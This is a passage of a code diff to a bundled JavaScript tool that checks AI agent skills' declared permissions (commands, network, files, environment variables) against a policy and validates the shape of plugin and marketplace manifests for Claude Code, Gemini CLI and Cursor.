 	const [, host] = /^[a-z][a-z\d+.-]*:\/\/(\[[^\]/]*\]|[^/:]+)/.exec(scope) ?? [];
 	return host ?? scope;
 }
-function isListed(granted, entry, of) {
+function isListed$1(granted, entry, of) {
 	if (entry === void 0) return false;
 	if (of === "tool") return ungrantedTools(granted, [entry]).length === 0;
+	if (of === "command" && !grantsPrograms(granted, entry)) return false;
 	const list = (value) => ({
 		type: "entries",
 		of,
@@ -43419,9 +47372,9 @@ function grantDenials({ files }, policies, rootAtBase = () => void 0) {
 	});
 }
 function fileDenials(file, policy) {
-	return [...unreadableDenials(file, policy), ...file.powers.flatMap((power) => powerDenial(power, policy) ?? [])];
+	return [...unreadableDenials(file, policy), ...file.powers.flatMap((power) => powerDenial$1(power, policy) ?? [])];
 }
-function powerDenial(power, policy) {
+function powerDenial$1(power, policy) {
 	const notes = limitNotes(power, policy);
 	if (notes.length === 0) return null;
 	return {
@@ -43446,6 +47399,285 @@ function unreadableDenials({ path, faults }, policy) {
 		at: fault.at,
 		about: `grant\0unreadable\0${path}`
 	})];
+}
+// src/contract/coverage/exec-policy.ts
+function policyOf(item) {
+	const commands = entriesOf(item, "commands");
+	return {
+		allowed: facetValue(item, "allowed") === true,
+		commands: commands.size > 0 ? commands : null,
+		blocked: entriesOf(item, "blocked")
+	};
+}
+function entriesOf(item, facet) {
+	const shape = item.facets.get(facet)?.shape;
+	return new Set(shape?.type === "entries" ? shape.value : []);
+}
+function linesOf({ commands, blocked }) {
+	return [...commands ?? [], ...blocked];
+}
+function isListed({ commands }, line) {
+	return commands === null || coversCommand(commands, line);
+}
+function isBlocked({ blocked }, line) {
+	return coversCommand(blocked, line);
+}
+function allowanceOf(policy, line) {
+	if (!policy.allowed || !isListed(policy, line) || isBlocked(policy, line)) return 0;
+	return policy.commands !== null || policy.blocked.size === 0 || isPlainCommand(line) ? 2 : 1;
+}
+function commandsOf({ allowed, commands, blocked }) {
+	if (!allowed) return [];
+	const within = (line) => [...blocked].filter((other) => coversCommand(new Set([line]), other));
+	if (commands === null) return [{
+		line: null,
+		blocked: [...blocked]
+	}];
+	return [...commands].filter((line) => !coversCommand(blocked, line)).map((line) => ({
+		line,
+		blocked: within(line)
+	}));
+}
+function coversCommands(wider, narrower) {
+	const { line, blocked } = narrower;
+	if (line === null && wider.line !== null) return false;
+	if (line !== null && !allowanceIsCertain(wider, line)) return false;
+	const isWithin = (other) => line === null || coversCommand(new Set([line]), other);
+	const stillBlocked = new Set(blocked);
+	return wider.blocked.every((other) => !isWithin(other) || coversCommand(stillBlocked, other));
+}
+function allowanceIsCertain({ line, blocked }, requested) {
+	return allowanceOf({
+		allowed: true,
+		commands: line === null ? null : new Set([line]),
+		blocked: new Set(blocked)
+	}, requested) === 2;
+}
+// src/powers/declared/declared-powers.ts
+function declaredPowers({ contract, name, root }, isWanted = () => true) {
+	const unit = {
+		kind: "skill",
+		name,
+		root
+	};
+	return contract.items.filter(isWanted).flatMap((item) => powersOfItem(item, unit));
+}
+function powersOfItem(item, unit) {
+	const at = (item.facets.get("value") ?? item.facets.get("commands"))?.at ?? item.at;
+	return itemPowers(item).map((power) => ({
+		reach: "one",
+		...power,
+		scope: redactScope(power.scope),
+		feature: "declared",
+		subject: subjectOf(item),
+		trigger: { start: "turn" },
+		unit,
+		at
+	}));
+}
+function subjectOf({ kind, name }) {
+	return subjects[kind] ?? `${tables[kind] ?? ""}${name}`;
+}
+const subjects = {
+	effect: "effects",
+	sensitive: "sensitive",
+	confirmation: "recipes.default_confirmation"
+};
+const tables = {
+	power: "capabilities.",
+	execution: "execution.",
+	provides: "provides."
+};
+function itemPowers(item) {
+	const { kind, name } = item;
+	if (kind === "effect") return [effectPower(name)];
+	if (kind === "power") return capabilityPowers(item);
+	if (kind === "confirmation") return facetValue(item, "value") === "auto" ? [{
+		kind: "approve",
+		scope: "recipes"
+	}] : [];
+	if (!isSet(item, "value")) return [];
+	if (kind === "sensitive") return [{
+		kind: "guard",
+		scope: "sensitive"
+	}];
+	if (kind === "provides" && name === "executable") return [{
+		kind: "run",
+		scope: "module"
+	}];
+	if (kind === "execution" && name === "network") return [unlimited("net")];
+	return kind === "execution" && name === "destructive" ? [{
+		kind: "effect",
+		scope: name
+	}] : [];
+}
+function unlimited(kind) {
+	return {
+		kind,
+		scope: "*",
+		reach: "any"
+	};
+}
+const effectKinds = new Map([
+	["proc.exec", "run"],
+	["fs.read", "read"],
+	["fs.write", "write"],
+	["net.fetch", "net"]
+]);
+function effectPower(name) {
+	const kind = effectKinds.get(name);
+	return kind ? {
+		...unlimited(kind),
+		effect: name
+	} : {
+		kind: "effect",
+		scope: name,
+		effect: name
+	};
+}
+const lists = new Map([
+	["filesystem_read", {
+		kind: "read",
+		reach: "path"
+	}],
+	["filesystem_write", {
+		kind: "write",
+		reach: "path"
+	}],
+	["network", {
+		kind: "net",
+		reach: "domain"
+	}],
+	["env_read", {
+		kind: "secret",
+		reach: "variable"
+	}]
+]);
+function capabilityPowers(item) {
+	if (item.name === "terminal_exec") return commandsOf(policyOf(item)).map(commandPower);
+	const list = lists.get(item.name);
+	if (!list) return isSet(item, "value") ? [unlimited("secret")] : [];
+	return facetTexts(item, "value").map((scope) => ({
+		...list,
+		scope
+	}));
+}
+function commandPower(commands) {
+	const { line, blocked } = commands;
+	const scope = line ?? "*";
+	return {
+		kind: "run",
+		scope: blocked.length === 0 ? scope : `${scope} except ${[...blocked].sort().join(", ")}`,
+		reach: line === null ? "any" : "command",
+		commands
+	};
+}
+// src/config/declared-denials.ts
+function declaredDenials({ contract, name, root }, policy) {
+	const unit = {
+		kind: "skill",
+		name,
+		root
+	};
+	return contract.items.flatMap((item) => {
+		return otherChecks[item.kind]?.(item, policy) ?? powersOfItem(item, unit).flatMap((power) => powerDenials(item, power, policy));
+	});
+}
+function powerDenials(item, power, policy) {
+	const [limit] = limitsBeyond(power, policy);
+	if (limit) return [powerDenial(item, power, limit)];
+	if (!(power.effect !== void 0 && power.scope !== "*") || policy.effects !== null || harmlessEffects.has(item.name)) return [];
+	const limits = limitsOf$1(policy, [
+		"network",
+		"exec",
+		"filesystemRead",
+		"filesystemWrite"
+	]);
+	if (limits.length === 0) return [];
+	const about = `effect\0${item.name}`;
+	return [ambiguousDenial(msg`Unknown effect ${code$1(item.name)}.`, limits, {
+		at: item.at,
+		about
+	})];
+}
+const harmlessEffects = new Set([
+	"db.read",
+	"db.write",
+	"git.read",
+	"git.write"
+]);
+function powerDenial(item, power, limit) {
+	const { key, granted } = limit;
+	const { reach, scope, effect, commands } = power;
+	if (granted === null) return flagDenial(item, key === "destructive" ? power.subject : policyKeyNames[key]);
+	const subject = effect === void 0 ? code$1(power.subject) : msg`Effect ${code$1(effect)}`;
+	const outside = (name, about = "") => {
+		const message = msg`${name} is not in ${code$1(policyKeyNames[key])} of the policy.`;
+		return denialOf$1({
+			...item,
+			at: power.at
+		}, message, limit, about);
+	};
+	if (key === "effects") return outside(subject);
+	if (reach !== "any") {
+		const entry = commands?.line ?? scope;
+		return outside(code$1(entry), entry);
+	}
+	const name = code$1(policyKeyNames[key]);
+	if (commands) {
+		const message = msg`The skill may run any command; the policy limits ${name}.`;
+		return denialOf$1({
+			...item,
+			at: power.at
+		}, message, limit);
+	}
+	return granted.length === 0 ? denialOf$1(item, msg`${subject} needs ${name}. The policy denies it.`) : denialOf$1(item, msg`${subject} is not limited; the policy limits ${name}.`, limit);
+}
+const otherChecks = {
+	provides: () => [],
+	environment,
+	execution: interactive,
+	"allowed-tools": allowedTools
+};
+function interactive(item, policy) {
+	if (item.name !== "interactive") return void 0;
+	return isSet(item, "value") && !policy.interactive ? [flagDenial(item, "execution.interactive")] : [];
+}
+function environment(item, { envRead: granted }) {
+	if (granted === "any" || granted.some((name) => coversEntry("variable", name, item.name))) return [];
+	return [denialOf$1(item, msg`Variable ${code$1(item.name)} is not in ${code$1("env_read")} of the policy.`, {
+		key: "envRead",
+		granted
+	})];
+}
+function allowedTools(item, { allowedTools: granted }) {
+	if (granted === null) return [];
+	const at = item.facets.get("value")?.at ?? item.at;
+	return ungrantedTools(granted, facetTexts(item)).map((tool) => {
+		const message = msg`Tool ${code$1(tool)} is not in ${code$1("allowed-tools")} of the policy.`;
+		return denialOf$1({
+			...item,
+			at
+		}, message, {
+			key: "allowedTools",
+			granted
+		}, tool);
+	});
+}
+function flagDenial(item, field) {
+	return denialOf$1(item, msg`The policy denies ${code$1(field)}.`);
+}
+function denialOf$1(item, message, limit = null, about = "") {
+	return {
+		message,
+		notes: limit ? [{ message: grantedNote(limit) }] : [],
+		at: item.at,
+		about: [
+			item.kind,
+			item.name,
+			about
+		].join("\0")
+	};
 }
 // src/dialects/power-texts.ts
 function powerTexts(skill) {
@@ -43521,7 +47753,7 @@ function frontmatterDoubts({ frontmatter, frontmatterText, problems }) {
 	const problem = problems.find(({ rule }) => unreadableFront.has(rule));
 	if (frontmatter !== null || !problem) return null;
 	if (frontmatterText === null || isBlank(frontmatterText)) return [];
-	return [unreadable(msg`The frontmatter cannot be read.`, "frontmatter", problem.at, normalizeLineEndings$1(frontmatterText))];
+	return [unreadable(msg`The permissions in the frontmatter are unknown.`, "frontmatter", problem.at, normalizeLineEndings$1(frontmatterText))];
 }
 function isBlank(text) {
 	return text.split(/\r\n?|\n/).every((line) => /^\s*(?:#|$)/.test(line));
@@ -43593,7 +47825,7 @@ function policyDenials(skills, policies, previousByRoot = new Map()) {
 	});
 }
 function denials(skill, policy, placeNotes = []) {
-	return [...denialsOf(skill, policy), ...doubtfulDenials(skill, policy)].map((denial) => ({
+	return [...declaredDenials(skill, policy), ...doubtfulDenials(skill, policy)].map((denial) => ({
 		...denial,
 		notes: [...denial.notes ?? [], ...placeNotes],
 		skill
@@ -43768,12 +48000,17 @@ function targetsAtBase(lock, entry, before, { base }) {
 }
 function furtherCopies(lock, entry, { before, found, context }) {
 	const { base, head, locks, successors } = context;
-	if (!base || !before || lockFormatOf(lock).lookupBy !== "name") return [];
+	const { lookupBy } = lockFormatOf(lock);
+	if (!base || !before || lookupBy === "path") return [];
+	const isInstalled = lookupBy === "installed";
 	const known = new Set(found.map(({ skill }) => skill));
 	const isOfOther = (skill) => locks.some(({ path, entries }) => path !== lock.path && entries.some((other) => other.id === entry.id && matchesEntry(other, skill)));
 	return (base.byName.get(before.entry.id) ?? []).flatMap((old) => {
 		const skill = head.byRoot.get(successors.get(old.root) ?? old.root);
-		if (!(skill?.name === entry.id && !skill.isUnread && !known.has(skill)) || !matchesEntry(before.entry, old) || isOfOther(skill)) return [];
+		const isCopy = skill?.name === entry.id && !skill.isUnread && !known.has(skill);
+		const place = isInstalled && skill ? installLocation(skill.root) : null;
+		if (place && (place.inAgentFolder || place.home === lockHome(lock.path))) return [];
+		if (!isCopy || !matchesEntry(before.entry, old) || isOfOther(skill)) return [];
 		return [{
 			old: skillTarget(old, before.entry.pins),
 			target: skillTarget(skill, entry.pins)
@@ -43837,120 +48074,520 @@ function passedSecrets({ operation, bindings }, skill) {
 	const inputs = callInputsOf(skill, operation?.value ?? null)?.inputs;
 	return [...bindings?.fields.values() ?? []].filter(({ key }) => isSecret(inputs?.get(key))).flatMap(({ value }) => [...secretLeaves(value)]).filter(({ text }) => !/^\s*\{\{[^{}]*\}\}\s*$/.test(text));
 }
-// src/units/manifest-shape.ts
-function shapeProblems(files) {
-	return files.flatMap((file) => shapeFaults(file).map(({ message, at, about }) => ({
-		rule: "plugin-manifest-shape",
-		message: msg`${message}${words(consequences[file.kind] ?? "")}`,
-		at,
-		about: `${file.path}\0${about}`
-	})));
+// src/units/refusals/shape.ts
+function refusals(value, shape, place) {
+	if (shape.kinds.includes(value.kind)) return shape.check?.(value, place) ?? [];
+	return [refusal(value, place, msg`is ${shownValue(value)}, not ${shape.expected}`)];
 }
-const consequences = {
-	"claude-plugin": " Claude Code does not load the plugin.",
-	marketplace: " Claude Code rejects the marketplace.",
-	"gemini-extension": " Gemini CLI does not load the extension.",
-	"cursor-plugin": " Cursor does not load the plugin."
-};
-function shapeFaults(file) {
-	const { document, kind, path } = file;
-	if (!document) return [];
-	switch (kind) {
-		case "marketplace": return [...marketplaceFaults(document, path), ...items(get(document, "plugins")).flatMap(entryFaults)];
-		case "claude-plugin": return [...missing(document, ["name"], path), ...typeFaults(document)];
-		case "gemini-extension": return missing(document, ["name", "version"], path);
-		case "cursor-plugin": return missing(document, ["name"], path);
-		default: return [];
-	}
+function refusal(value, place, fault, help) {
+	return {
+		message: msg`${code$1(place.key)}${place.owner} ${fault}.`,
+		help,
+		at: value.at,
+		about: place.about
+	};
 }
-const types = {
-	...Object.fromEntries([
-		"version",
-		"description",
-		"homepage",
-		"repository",
-		"license",
-		"displayName"
-	].map((key) => [key, [["string"], words("a string")]])),
-	keywords: [["list"], words("a list of strings")],
-	author: [["table"], msg`a mapping with ${code$1("name")}`],
-	agents: [["string", "list"], words("a path or a list of paths")],
-	outputStyles: [["string", "list"], words("a path or a list of paths")],
-	commands: [[
-		"string",
-		"list",
-		"table"
-	], words("a path, a list of paths or a mapping")],
-	hooks: [[
-		"string",
-		"list",
-		"table"
-	], words("a path, a list or a mapping")],
-	mcpServers: [[
-		"string",
-		"list",
-		"table"
-	], words("a path, a list or a mapping")],
-	lspServers: [[
-		"string",
-		"list",
-		"table"
-	], words("a path, a list or a mapping")],
-	dependencies: [["list"], words("a list of plugins")]
-};
-function typeFaults(table, about = "", owner = nothing$2) {
-	return Object.entries(types).flatMap(([key, [kinds, expected]]) => {
-		const value = get(table, key);
-		if (!value || kinds.includes(value.kind)) return [];
-		return [{
-			message: msg`${code$1(key)}${owner} is ${shownValue(value)}, not ${expected}.`,
-			at: value.at,
+function string(expected = "a string", faultOf = () => null) {
+	return {
+		expected: typeof expected === "string" ? words(expected) : expected,
+		kinds: ["string"],
+		check(value, place) {
+			const fault = faultOf(text$1(value) ?? "");
+			if (fault === null) return [];
+			return [refusal(value, place, typeof fault === "string" ? words(fault) : fault)];
+		}
+	};
+}
+function anyOf(expected, ...kinds) {
+	return {
+		expected: words(expected),
+		kinds
+	};
+}
+function listOf(shape, expected = "a list", distinct) {
+	return {
+		expected: words(expected),
+		kinds: ["list"],
+		check(value, place) {
+			const list = value.kind === "list" ? value.items : [];
+			return [...list.flatMap((item, index) => refusals(item, shape, {
+				...place,
+				about: `${place.about}\0${index}`
+			})), ...distinct === void 0 ? [] : repeatedNames(list, distinct, place)];
+		}
+	};
+}
+function repeatedNames(list, key, place) {
+	const seen = new Set();
+	return list.flatMap((item) => {
+		const named = get(item, key);
+		const name = text$1(named);
+		if (!named || name === void 0) return [];
+		const isFirst = !seen.has(name);
+		seen.add(name);
+		const message = msg`Two ${code$1(place.key)} have the ${code$1(key)} ${code$1(name)}.`;
+		return isFirst ? [] : [{
+			message,
+			at: named.at,
+			about: `${place.about}\0${name}`
+		}];
+	});
+}
+function either(expected, ...shapes) {
+	return {
+		expected: typeof expected === "string" ? words(expected) : expected,
+		kinds: shapes.flatMap(({ kinds }) => kinds),
+		check: (value, place) => shapes.find(({ kinds }) => kinds.includes(value.kind))?.check?.(value, place) ?? []
+	};
+}
+function table(shape, expected = "a mapping") {
+	return {
+		expected: typeof expected === "string" ? words(expected) : expected,
+		kinds: ["table"],
+		check: (value, { key, about }) => fieldRefusals(value, shape, {
+			owner: msg` of ${code$1(key)}`,
+			about: `${about}.`
+		})
+	};
+}
+function mapOf(shape) {
+	return {
+		expected: words("a mapping"),
+		kinds: ["table"],
+		check: (value, place) => fields(value).flatMap((field) => refusals(field.value, shape, {
+			key: field.key,
+			owner: msg` of ${code$1(place.key)}`,
+			about: `${place.about}.${field.key}`
+		}))
+	};
+}
+function fieldRefusals(value, shape, { owner, about }, at = value.at) {
+	const missing = (shape.required ?? []).flatMap((key) => {
+		const message = msg`Missing ${code$1(key)}${owner}.`;
+		return get(value, key) ? [] : [{
+			message,
+			at,
 			about: `${about}${key}`
 		}];
 	});
+	const wrong = fields(value).flatMap((field) => {
+		const known = Object.hasOwn(shape.fields, field.key) ? shape.fields[field.key] : void 0;
+		if (!known) return shape.isStrict ? [unknownKey(field, owner, about)] : [];
+		return refusals(field.value, known, {
+			key: field.key,
+			owner,
+			about: `${about}${field.key}`
+		});
+	});
+	return [...missing, ...wrong];
 }
-function missing(table, keys, path) {
-	return keys.flatMap((key) => {
-		const value = get(table, key);
-		if (text$1(value)?.trim()) return [];
-		if (key === "version" && source(value)) return [];
-		return [{
-			message: value ? msg`${code$1(key)} is ${shownValue(value)}, not a string.` : msg`Missing ${code$1(key)}.`,
-			at: value?.at ?? { path },
-			about: key
+function unknownKey({ key, keyAt }, owner, about) {
+	return {
+		message: msg`Unknown key ${code$1(key)}${owner}.`,
+		at: keyAt,
+		about: `${about}${key}`
+	};
+}
+const ofFile = {
+	owner: nothing$2,
+	about: ""
+};
+// src/units/refusals/plugin-shape.ts
+const boolean = anyOf("true or false", "boolean");
+const nameShape = string("a string", (name) => {
+	if (name.trim() === "") return "is empty";
+	return /\s/.test(name.trim()) ? "has blanks" : null;
+});
+const filled = string("a string", (written) => written.trim() === "" ? "is empty" : null);
+const url = string("a URL", (written) => URL.canParse(written) ? null : "is not a URL");
+const range = string("a range of versions", (written) => /[\d*]/.test(written) ? null : "is not a range of versions");
+const personShape = table({
+	fields: { name: filled },
+	required: ["name"]
+}, msg`a mapping with ${code$1("name")}`);
+function path(suffix) {
+	return {
+		expected: words("a path"),
+		kinds: ["string"],
+		check(value, { key, owner, about }) {
+			const written = text$1(value) ?? "";
+			const fault = pathFault(written, suffix);
+			if (!fault) return [];
+			const [fact = nothing$2, help] = fault;
+			return [{
+				message: msg`Path ${pathPart(written)} of ${code$1(key)}${owner} ${fact}.`,
+				help,
+				at: value.at,
+				about
+			}];
+		}
+	};
+}
+function pathFault(written, suffix) {
+	if (written.split("/").includes("..")) return [msg`is outside the plugin`];
+	if (/^https?:/.test(written)) return null;
+	if (!written.startsWith("./")) return [msg`does not start with ${code$1("./")}`, msg`Write ${code$1(`./${written}`)}.`];
+	if (suffix === void 0 || written.endsWith(suffix)) return null;
+	return [msg`does not end with ${code$1(suffix)}`, msg`List the files.`];
+}
+const paths = (suffix) => either("a path or a list of paths", path(suffix), listOf(path(suffix)));
+const skillPath = string("a path");
+function parts(inline) {
+	const one = either("a path or a mapping", path(), inline);
+	return either("a path, a list or a mapping", one, listOf(one));
+}
+const command = {
+	expected: words("a mapping"),
+	kinds: ["table"],
+	check(value, place) {
+		const has = (key) => get(value, key) !== void 0;
+		if (has("source") !== has("content")) return [];
+		return [refusal(value, place, has("source") ? msg`has both ${code$1("source")} and ${code$1("content")}` : msg`has neither ${code$1("source")} nor ${code$1("content")}`)];
+	}
+};
+const commands = either("a path, a list of paths or a mapping", path(), listOf(path()), mapOf(command));
+const any = {
+	expected: words("a value"),
+	kinds: [
+		"string",
+		"number",
+		"boolean",
+		"null",
+		"other",
+		"list",
+		"table"
+	]
+};
+function known(keys) {
+	return Object.fromEntries(keys.split(" ").map((key) => [key, any]));
+}
+const languageServer = table({
+	fields: known("command args extensionToLanguage transport env initializationOptions settings workspaceFolder startupTimeout shutdownTimeout restartOnCrash maxRestarts diagnostics"),
+	required: ["command", "extensionToLanguage"],
+	isStrict: true
+});
+const monitor = table({
+	fields: known("name command description when"),
+	required: [
+		"name",
+		"command",
+		"description"
+	],
+	isStrict: true
+});
+const monitors = either("a path or a list", path(), listOf(monitor, "a list", "name"));
+const option = table({
+	fields: known("type title description required default multiple sensitive min max options"),
+	required: [
+		"type",
+		"title",
+		"description"
+	],
+	isStrict: true
+});
+const channel = table({
+	fields: {
+		server: filled,
+		displayName: string(),
+		userConfig: mapOf(option)
+	},
+	required: ["server"],
+	isStrict: true
+});
+const dependency = either("a plugin", string(), table({
+	fields: { name: string() },
+	required: ["name"]
+}));
+const partFields = {
+	version: string(),
+	description: string(),
+	displayName: string(),
+	license: string(),
+	homepage: url,
+	repository: string(),
+	keywords: listOf(string(), "a list of strings"),
+	author: personShape,
+	agents: paths(".md"),
+	outputStyles: paths(),
+	skills: either("a path or a list of paths", skillPath, listOf(skillPath)),
+	commands,
+	hooks: parts(any),
+	mcpServers: parts(anyOf("a mapping", "table")),
+	lspServers: parts(mapOf(languageServer)),
+	monitors,
+	experimental: table({ fields: { monitors } }),
+	userConfig: mapOf(option),
+	channels: listOf(channel),
+	dependencies: listOf(dependency, "a list of plugins"),
+	optionalDependencies: listOf(dependency, "a list of plugins"),
+	engines: table({ fields: { "claude-code": range } }),
+	defaultEnabled: boolean
+};
+const pluginFields = {
+	fields: {
+		...partFields,
+		name: nameShape
+	},
+	required: ["name"]
+};
+function namesParts(manifest) {
+	const keys = [
+		"commands",
+		"agents",
+		"skills",
+		"hooks",
+		"outputStyles"
+	];
+	return fields(manifest).some(({ key }) => keys.includes(key));
+}
+// src/units/refusals/marketplace-shape.ts
+const reserved = [
+	"inline",
+	"builtin",
+	"skills-dir"
+];
+const looksOfficial = /official[^a-z\d]*(?:claude|anthropic)|(?:claude|anthropic)[^a-z\d]*official/i;
+const marketplace = {
+	fields: {
+		name: {
+			...nameShape,
+			check(value, place) {
+				const name = text$1(value) ?? "";
+				if (reserved.includes(name.toLowerCase()) || looksOfficial.test(name)) return [refusal(value, place, msg`${namePart(name)} is reserved`)];
+				return nameShape.check?.(value, place) ?? [];
+			}
+		},
+		owner: {
+			...personShape,
+			expected: words("a mapping")
+		},
+		plugins: anyOf("a list", "list")
+	},
+	required: [
+		"name",
+		"owner",
+		"plugins"
+	]
+};
+const sha = string("a string", (written) => /^[\da-f]{40}$/.test(written) ? null : "is not a full commit");
+const archiveUrl = string("a URL", (written) => /^https:\/\//i.test(written) ? null : msg`does not start with ${code$1("https://")}`);
+const sources = {
+	github: {
+		fields: {
+			repo: filled,
+			sha
+		},
+		required: ["repo"]
+	},
+	url: {
+		fields: {
+			url: filled,
+			sha
+		},
+		required: ["url"]
+	},
+	"git-subdir": {
+		fields: {
+			url: filled,
+			path: filled,
+			sha
+		},
+		required: ["url", "path"]
+	},
+	npm: {
+		fields: { package: filled },
+		required: ["package"]
+	},
+	archive: {
+		fields: { url: archiveUrl },
+		required: ["url"]
+	},
+	command: {
+		fields: {},
+		required: ["command"]
+	}
+};
+const sourceTable = {
+	expected: words("a mapping"),
+	kinds: ["table"],
+	check(value, place) {
+		const type = get(value, "source");
+		const written = text$1(type) ?? "";
+		const shape = Object.hasOwn(sources, written) ? sources[written] : void 0;
+		const owner = msg` of ${code$1(place.key)}${place.owner}`;
+		if (shape) return fieldRefusals(value, shape, {
+			owner,
+			about: `${place.about}.`
+		});
+		if (!type) return [refusal(value, place, msg`has no ${code$1("source")}`)];
+		return [refusal(type, place, msg`has the unknown type ${code$1(written)}`)];
+	}
+};
+function sourceShape(hasRoot) {
+	return either("a path", string("a path", (written) => {
+		if (written.trim() === "") return "is empty, not a path";
+		if (/^(?:\.{1,2}(?:$|\/)|[\\/~]|[a-z]:[\\/])/i.test(written)) return null;
+		if (/^[a-z][a-z\d+.-]*:|@.*:/i.test(written)) return "is a URL, not a path";
+		return hasRoot ? null : msg`does not start with ${code$1("./")}`;
+	}), sourceTable);
+}
+function marketplaceRefusals(document, path) {
+	const pluginRoot = get(get(document, "metadata"), "pluginRoot");
+	const rootPlace = {
+		...ofFile,
+		key: "pluginRoot",
+		about: "pluginRoot"
+	};
+	const entry = {
+		fields: {
+			...partFields,
+			name: nameShape,
+			source: sourceShape(pluginRoot !== void 0)
+		},
+		required: ["source"]
+	};
+	const entries = items(get(document, "plugins"));
+	return [
+		...fieldRefusals(document, marketplace, ofFile, { path }),
+		...pluginRoot ? refusals(pluginRoot, string("a path"), rootPlace) : [],
+		...entries.flatMap((value, index) => entryRefusals(value, index, entry)),
+		...repeatedEntries(entries)
+	];
+}
+function entryRefusals(value, index, shape) {
+	const named = get(value, "name");
+	const name = text$1(named)?.trim();
+	if (value.kind !== "table") return [{
+		message: msg`Plugin ${index + 1} is ${shownValue(value)}, not a mapping.`,
+		at: value.at,
+		about: `plugin\0${index}`
+	}];
+	if (!name) {
+		const about = `${index}\0`;
+		const required = ["name", "source"];
+		return fieldRefusals(value, {
+			...shape,
+			required
+		}, {
+			owner: msg` of plugin ${index + 1}`,
+			about
+		});
+	}
+	const owner = msg` of plugin ${namePart(name)}`;
+	const faults = fieldRefusals(value, shape, {
+		owner,
+		about: `${name}\0`
+	}, named?.at);
+	const helper = get(value, "headersHelper");
+	if (!helper || flag$1(get(value, "strict")) === false) return faults;
+	const at = {
+		key: "headersHelper",
+		owner,
+		about: `${name}\0headersHelper`
+	};
+	return [...faults, refusal(helper, at, msg`needs ${code$1("\"strict\": false")}`)];
+}
+function repeatedEntries(entries) {
+	const seen = new Set();
+	return entries.flatMap((entry) => {
+		const named = get(entry, "name");
+		const name = text$1(named)?.trim();
+		if (!named || !name) return [];
+		const isFirst = !seen.has(name);
+		seen.add(name);
+		const message = msg`Two plugins have the name ${namePart(name)}.`;
+		return isFirst ? [] : [{
+			message,
+			at: named.at,
+			about: `${name}\0repeated`
 		}];
 	});
 }
-function marketplaceFaults(table, path) {
-	const owner = get(table, "owner");
-	const faults = [...missing(table, ["name"], path)];
-	if (owner?.kind !== "table") {
-		const message = owner ? msg`${code$1("owner")} is ${shownValue(owner)}, not a mapping.` : msg`Missing ${code$1("owner")}.`;
-		faults.push({
-			message,
-			at: owner?.at ?? { path },
-			about: "owner"
-		});
-	} else if (!text$1(get(owner, "name"))?.trim()) {
-		const message = msg`Missing ${code$1("name")} of ${code$1("owner")}.`;
-		faults.push({
-			message,
-			at: owner.at,
-			about: "owner.name"
-		});
+// src/units/refusals/refusals.ts
+const consequences = {
+	"claude-plugin": "Claude Code does not load the plugin.",
+	marketplace: "Claude Code rejects the marketplace.",
+	"gemini-extension": "Gemini CLI does not load the extension.",
+	"cursor-plugin": "Cursor does not load the plugin."
+};
+const shapes = {
+	"claude-plugin": pluginFields,
+	"gemini-extension": {
+		fields: {
+			name: filled,
+			version: anyOf("a string", "string", "number", "boolean", "other")
+		},
+		required: ["name", "version"]
+	},
+	"cursor-plugin": {
+		fields: { name: filled },
+		required: ["name"]
 	}
-	return faults;
+};
+function refusalProblems(files, paths) {
+	return [
+		...files.flatMap((file) => missingFiles(file, paths)),
+		...files.flatMap((file) => refusalsOf(file).map((refusal) => problemOf(refusal, file))),
+		...conflicts(files)
+	];
 }
-function entryFaults(entry, index) {
-	if (entry.kind !== "table") return [];
-	const value = get(entry, "name");
-	const name = text$1(value)?.trim();
-	if (!name) return [{
-		message: value ? msg`${code$1("name")} of plugin ${index + 1} is ${shownValue(value)}, not a string.` : msg`Missing ${code$1("name")} of plugin ${index + 1}.`,
-		at: value?.at ?? entry.at,
-		about: `${index}\0name`
-	}];
-	return typeFaults(entry, `${name}\0`, msg` of plugin ${namePart(name)}`);
+function problemOf({ message, help, at, about }, file) {
+	return {
+		rule: "plugin-manifest-shape",
+		message: msg`${message} ${words(consequences[file.kind] ?? "")}`,
+		help,
+		at,
+		about: `${file.path}\0${about}`
+	};
+}
+function refusalsOf({ document, kind, path }) {
+	if (!document) return [];
+	if (kind === "marketplace") return marketplaceRefusals(document, path);
+	const shape = shapes[kind];
+	return shape ? fieldRefusals(document, shape, ofFile, { path }) : [];
+}
+function missingFiles(file, paths) {
+	const { document, kind, root } = file;
+	if (kind !== "claude-plugin" || !document) return [];
+	return [
+		"hooks",
+		"mcpServers",
+		"lspServers"
+	].flatMap((key) => {
+		const value = get(document, key);
+		return [value, ...items(value)].flatMap((item) => {
+			const written = text$1(item);
+			const target = written?.startsWith("./") ? resolve$1(root, written) : void 0;
+			if (!item || !written || target === void 0) return [];
+			if ([...selfAndAncestors(target)].some((path) => paths.has(path))) return [];
+			return [problemOf({
+				message: msg`Path ${pathPart(written)} of ${code$1(key)} does not exist.`,
+				at: item.at,
+				about: `${key}\0${written}`
+			}, file)];
+		});
+	});
+}
+function conflicts(files) {
+	const manifests = new Map(files.filter(({ kind }) => kind === "claude-plugin").map((file) => [file.root, file]));
+	return files.flatMap((file) => {
+		if (file.kind !== "marketplace") return [];
+		return localEntries(file).flatMap(({ name, table, root }) => {
+			const strict = get(table, "strict");
+			const manifest = manifests.get(root);
+			if (!strict || flag$1(strict) !== false || !manifest?.document) return [];
+			if (!namesParts(table) || !namesParts(manifest.document)) return [];
+			return [problemOf({
+				message: msg`Plugin ${namePart(name)} is ${code$1("\"strict\": false")}, and its plugin.json names parts too.`,
+				help: msg`Remove ${code$1("strict")}, or the parts of one of them.`,
+				at: strict.at,
+				about: `${name}\0strict`
+			}, {
+				...file,
+				kind: "claude-plugin"
+			})];
+		});
+	});
 }
 // src/pipeline/relate/relate-repository.ts
 const rules = lintRulesOf("repository");
@@ -43965,7 +48602,7 @@ function relateRepository(head, base, previousByRoot) {
 		}, listingSource).map(withOwnSkill),
 		...problems.map((problem) => problemDraft(problem, repositorySource)),
 		...listingProblems(head.listings).map((problem) => problemDraft(problem, listingSource)),
-		...shapeProblems(head.plugins.files).map((problem) => problemDraft(problem, listingSource)),
+		...refusalProblems(head.plugins.files, head.paths).map((problem) => problemDraft(problem, listingSource)),
 		...base ? removedIndexDrafts(head, base) : [],
 		...base ? unreadableLockDrafts(head, base) : []
 	];
@@ -44211,156 +48848,10 @@ function keyOf$2({ skill, about, at: { path, range } }, sharing) {
 		case "skill": return JSON.stringify([skill]);
 	}
 }
-// src/powers/declared/item-powers.ts
-function itemPowers(item) {
-	switch (item.kind) {
-		case "effect": return [namedPower(item, effectKinds.get(item.name) ?? "effect")];
-		case "power": return item.name === "terminal_exec" ? commandPowers(item) : listPowers(item);
-		case "execution":
-			if (!isSet(item, "value")) return [];
